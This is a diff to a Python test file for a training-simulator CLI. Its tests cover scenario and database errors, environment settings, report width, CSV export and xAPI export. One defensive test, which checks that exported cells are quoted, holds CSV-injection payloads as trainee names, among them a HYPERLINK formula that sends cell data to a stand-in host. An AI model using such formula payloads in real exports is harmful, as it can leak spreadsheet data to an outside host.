@@ -86,11 +86,29 @@ def test_report_filters_text_and_errors(filled):
     assert "Taux de réussite" in fr.stdout
     none = json.loads(run_cli("report", "--db", str(db), "--json", "--since", "2999-01-01").stdout)
     assert none["plays"] == 0 and none["principles"] == {}
-    assert json.loads(run_cli("report", "--db", str(db), "--json", "--scenario", "nope").stdout)["plays"] == 0
+    # an unknown scenario is one line and a failure, not an empty report (it used to be "0 plays", rc 0)
+    for command in (("report",), ("history",), ("export", "--format", "csv")):
+        nope = run_cli(*command, "--db", str(db), "--scenario", "nope")
+        assert nope.returncode == 2 and nope.stdout == "" and len(nope.stderr.strip().splitlines()) == 1
+        assert "unknown scenario" in nope.stderr and "'nope'" in nope.stderr
+    typo = run_cli("report", "--db", str(db), "--scenario", "shrunken-sweter").stderr   # a shipped id
+    assert "did you mean 'shrunken-sweater'?" in typo
+    # a shipped scenario nobody played yet is known: an empty report, not an error
+    assert json.loads(run_cli("report", "--db", str(db), "--json", "--scenario", "wrong-bed").stdout)["plays"] == 0
     ana = json.loads(run_cli("report", "--db", str(db), "--json", "--trainee", "Ana").stdout)
     assert ana["plays"] == 5 and ana["trainees"] == 1
     bad = run_cli("report", "--db", str(db), "--since", "last tuesday")
     assert bad.returncode == 2 and len(bad.stderr.strip().splitlines()) == 1 and "not a date" in bad.stderr
+
+
+def test_a_scenario_known_only_from_stored_plays_is_known(tmp_path):
+    db = str(tmp_path / "r.db")
+    custom = str(FIXTURES / "loop-timer.yaml")  # not shipped: its id is known from the play stored
+    assert run_cli("play", custom, "--choices", "2,1", "--db", db).returncode == 0
+    ok = run_cli("report", "--db", db, "--json", "--scenario", "loop-timer")
+    assert ok.returncode == 0 and json.loads(ok.stdout)["plays"] == 1
+    typo = run_cli("report", "--db", db, "--scenario", "loop-timr")
+    assert typo.returncode == 2 and "did you mean 'loop-timer'?" in typo.stderr
 
 
 def test_history_lists_every_play_with_its_state(filled):
@@ -206,16 +224,82 @@ def test_play_with_db_and_trainee_stores_the_play_and_keeps_its_json(tmp_path):
     assert not (tmp_path / "other.db").exists()
     rows = json.loads(run_cli("--db", db, "history", "--json").stdout)  # global --db before the command
     assert [(r["play_id"], r["trainee"], r["scaled"]) for r in rows] == [(b["play_id"], "Ana", b["score"]["scaled"])]
-    assert json.loads(run_cli("--db", str(tmp_path / "other.db"), "history", "--json").stdout) == []
+    # a read-only command on a path with no database: one line, a failure, nothing created
+    # (it used to create an empty database there and print an empty list)
+    missing = tmp_path / "newdir" / "typo.db"
+    for command in (("history", "--json"), ("report",), ("export", "--format", "csv"), ("room", "--once"),
+                    ("push", "--lrs", "http://127.0.0.1:9/xAPI/")):
+        proc = run_cli("--db", str(missing), *command)
+        assert proc.returncode == 2 and proc.stdout == "", (command, proc.stdout)
+        assert len(proc.stderr.strip().splitlines()) == 1 and str(missing) in proc.stderr, proc.stderr
+        proc = run_cli(*command, env={"LITIGE_DB": str(missing)})
+        assert proc.returncode == 2 and "no results database at" in proc.stderr
+    assert not (tmp_path / "newdir").exists()
+
+
+def test_play_saves_when_a_database_is_named_by_litige_db_alone(tmp_path):
+    """README: results go where --db or LITIGE_DB say; `play` used to save only with --db or --trainee."""
+    db = tmp_path / "env.db"
+    proc = run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--json", env={"LITIGE_DB": str(db)})
+    assert proc.returncode == 0, proc.stderr
+    rows = json.loads(run_cli("history", "--json", env={"LITIGE_DB": str(db)}).stdout)
+    assert [(r["play_id"], r["trainee"]) for r in rows] == [(json.loads(proc.stdout)["play_id"], None)]
+
+
+def test_read_commands_on_the_default_database_not_made_yet_say_no_plays_and_create_nothing(tmp_path):
+    home = tmp_path / "home"
+    env = {"LITIGE_DB": "", "XDG_DATA_HOME": str(home), "HOME": str(home)}
+    proc = run_cli("history", "--json", env=env)
+    assert proc.returncode == 0 and json.loads(proc.stdout) == [], proc.stderr
+    proc = run_cli("report", "--json", env=env)
+    assert proc.returncode == 0 and json.loads(proc.stdout)["plays"] == 0, proc.stderr
+    assert not home.exists()
 
 
 def test_report_of_the_shipped_stories_fits_80_columns(tmp_path):
     """Long choice ids and texts of the real stories are clipped, not wrapped past 80 columns."""
     db = str(tmp_path / "r.db")
-    for scenario, picks in (("shrunken-sweater", "2,1,1,1,1,1"), ("shrunken-sweater", "1,1"),
-                            ("subcontractor-error", "2,3,1,3,1,2,3,2,1,2,1")):
+    for scenario, picks in (("shrunken-sweater", "3,2,4,1,3,2"), ("shrunken-sweater", "2,3"),
+                            ("subcontractor-error", "1,3,1,2,2,1,3,2,1,3,1")):
         assert run_cli("play", scenario, "--choices", picks, "--db", db, "--trainee", "Ana").returncode == 0
     for lang in ("fr", "en"):
         out = run_cli("report", "--db", db, "--lang", lang).stdout
         assert "regarder-ensemble" in out
         assert max(len(line) for line in out.splitlines()) <= 80
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
+    """OWASP's CSV injection advice: text starting with = + - @ tab or CR gets a leading quote
+    (a trainee named =HYPERLINK(...) used to be written as it was); numbers stay numbers."""
+    from simulator.reports import csv_cell
+    db = str(tmp_path / "r.db")
+    evil = '=HYPERLINK("http://x/?"&A1,"click")'
+    names = (evil, "+1+cmd", "-2+3", "@SUM(A1)", "Ana-Marie", "=")
+    for name in names:
+        assert run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--db", db, f"--trainee={name}").returncode == 0
+    out = run_cli("export", "--db", db, "--format", "csv").stdout.lstrip("\ufeff")
+    trainees = sorted(r["trainee"] for r in csv.DictReader(io.StringIO(out, newline="")))
+    assert trainees == sorted(["'" + evil, "'+1+cmd", "'-2+3", "'@SUM(A1)", "Ana-Marie", "'="])
+    assert [csv_cell(v) for v in ("\tTab", "\rCR", "x=1")] == ["'\tTab", "'\rCR", "x=1"]  # names are stripped
+    assert [csv_cell(v) for v in ("-3", "+4", "-1.5", 7, -2, "1e5", "Ana")] == ["-3", "+4", "-1.5", 7, -2, "1e5", "Ana"]
+
+
+def test_each_anonymous_play_is_its_own_xapi_agent(tmp_path, sweater):
+    """Plays without a name used to share one agent, 'anonymous', which an LMS merges into one
+    learner; each is now `anonymous-PLAY_ID` (deterministic), named ones stay their name."""
+    db = str(tmp_path / "r.db")
+    ids = [json.loads(run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--json", "--db", db).stdout)["play_id"]
+           for _ in range(2)]
+    run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--db", db, "--trainee", "Ana")
+    first = json.loads(run_cli("export", "--db", db, "--format", "xapi").stdout)
+    again = json.loads(run_cli("export", "--db", db, "--format", "xapi").stdout)
+    assert first == again
+    by_play: dict[str, set] = {}
+    for s in first:
+        by_play.setdefault(s["context"]["extensions"]["https://litige.example/xapi/extensions/play-id"], set()).add(
+            json.dumps(s["actor"], sort_keys=True))
+    agents = {pid: json.loads(next(iter(a))) for pid, a in by_play.items() if len(a) == 1}
+    assert len(agents) == 3                                   # one agent per play, the same in all its statements
+    assert {agents[i]["account"]["name"] for i in ids} == {f"anonymous-{i}" for i in ids}
+    assert sorted(a["account"]["name"] for a in agents.values() if not a["account"]["name"].startswith("anon")) \
+        == ["Ana"]
